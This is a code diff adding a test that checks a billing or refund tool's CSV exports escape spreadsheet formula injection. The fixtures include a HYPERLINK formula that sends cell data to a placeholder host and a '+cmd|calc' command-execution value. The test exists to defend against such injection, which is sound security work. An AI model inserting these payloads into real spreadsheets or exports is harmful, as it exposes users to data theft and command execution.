@@ -148,3 +148,25 @@ test('the key is made once, is the owner’s alone, and another file is none', t
   chmodSync(key, 0o644)
   refused(key)
 })
+
+test('S19: what stands in the records is never a formula in a file of the operator', async t => {
+  const { file, out } = stage(t)
+  const row = (id: string, subscriber: string) => at(0, subscriber, 3).replace('r0', id)
+  const formula = '=HYPERLINK("http://a.example/?"&A1)'
+  const records = [
+    row(`"${formula.replaceAll('"', '""')}"`, '0912345601'),
+    row('@SUM(A1)', '+84912345602'),
+    row('-1+1', '+cmd|calc'),
+    row('plain', '-2+3'),
+    // Of no kind, so that it is rejected.
+    row('=1+1', '0912345603').replace('voice', 'x'),
+  ]
+  await audited([FEBRUARY], [file('a.csv', text(records))], { out })
+  const written = (name: string) => readFileSync(join(out, name), 'utf8')
+  for (const name of readdirSync(out))
+    for (const [, cell] of written(name).matchAll(/(?:^|[,\n])"?([=+@-][^,\n]*)/g))
+      assert.match(cell, /^\+84912345602$/, `${name}: ${cell}`)
+  for (const kept of ["'=HYPERLINK", "'@SUM(A1)", "'-1+1", "'+cmd|calc", "'-2+3", '+84912345602'])
+    assert.ok(written('refunds.csv').includes(kept), kept)
+  assert.ok(written('rejects.csv').includes("'=1+1,x,"))
+})
